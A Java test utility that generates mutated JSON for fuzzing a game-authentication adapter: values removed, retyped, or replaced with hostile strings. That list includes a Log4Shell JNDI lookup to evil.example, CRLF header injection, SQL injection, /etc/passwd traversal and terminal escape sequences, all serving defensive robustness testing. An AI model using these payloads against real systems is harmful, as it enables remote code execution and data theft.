// SPDX-License-Identifier: Apache-2.0
package io.github.gameauth.adapters.testing;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.List;

/** A JSON text with one value changed, for each value and each of several changes. */
public final class JsonMutations {
  private static final ObjectMapper MAPPER = new ObjectMapper();

  /** Texts that some platform's user would like to be called. */
  private static final List<String> HOSTILE =
      List.of(
          "",
          " ",
          "a\r\nX-Injected: yes",
          "\u0000",
          "\u001b[2J\u202e",
          "${jndi:ldap://evil.example/a}",
          "../../../etc/passwd",
          "' OR 1=1 --",
          "\ud83d\ude00",
          "x".repeat(5000));

  private JsonMutations() {}

  /**
   * A changed text.
   *
   * @param pointer which value was changed (RFC 6901)
   * @param json the text
   * @param sameKind whether a text was put where a text was, so that the answer still has its form
   */
  public record Mutation(String pointer, String json, boolean sameKind) {}

  /**
   * Every value of {@code json} taken away, made another kind, and made hostile if it is a text.
   */
  public static List<Mutation> of(String json) {
    try {
      List<Mutation> all = new ArrayList<>();
      collect(MAPPER.readTree(json), MAPPER.readTree(json), "", all);
      return all;
    } catch (JsonProcessingException e) {
      throw new IllegalArgumentException(e);
    }
  }

  private static void collect(JsonNode root, JsonNode node, String pointer, List<Mutation> all)
      throws JsonProcessingException {
    if (!pointer.isEmpty()) {
      all.add(new Mutation(pointer, removed(root, pointer), false));
      for (String other :
          List.of("null", "true", "-1", "99999999999999999999999", "[]", "{}", "[[[[]]]]")) {
        JsonNode value = MAPPER.readTree(other);
        if (value.getNodeType() != node.getNodeType()) {
          all.add(new Mutation(pointer, replaced(root, pointer, value), false));
        }
      }
      if (node.isTextual()) {
        for (String text : HOSTILE) {
          JsonNode value = MAPPER.getNodeFactory().textNode(text);
          all.add(new Mutation(pointer, replaced(root, pointer, value), true));
        }
      }
    }
    if (node.isObject()) {
      for (var member : node.properties()) {
        collect(root, member.getValue(), pointer + "/" + member.getKey(), all);
      }
    } else if (node.isArray()) {
      for (int i = 0; i < node.size(); i++) {
        collect(root, node.get(i), pointer + "/" + i, all);
      }
    }
  }

  private static String replaced(JsonNode root, String pointer, JsonNode value) {
    JsonNode copy = root.deepCopy();
    JsonNode parent = copy.at(pointer.substring(0, pointer.lastIndexOf('/')));
    String last = pointer.substring(pointer.lastIndexOf('/') + 1);
    if (parent instanceof ObjectNode object) {
      object.set(last, value);
    } else {
      ((ArrayNode) parent).set(Integer.parseInt(last), value);
    }
    return copy.toString();
  }

  private static String removed(JsonNode root, String pointer) {
    JsonNode copy = root.deepCopy();
    JsonNode parent = copy.at(pointer.substring(0, pointer.lastIndexOf('/')));
    String last = pointer.substring(pointer.lastIndexOf('/') + 1);
    if (parent instanceof ObjectNode object) {
      object.remove(last);
    } else {
      ((ArrayNode) parent).remove(Integer.parseInt(last));
    }
    return copy.toString();
  }
}
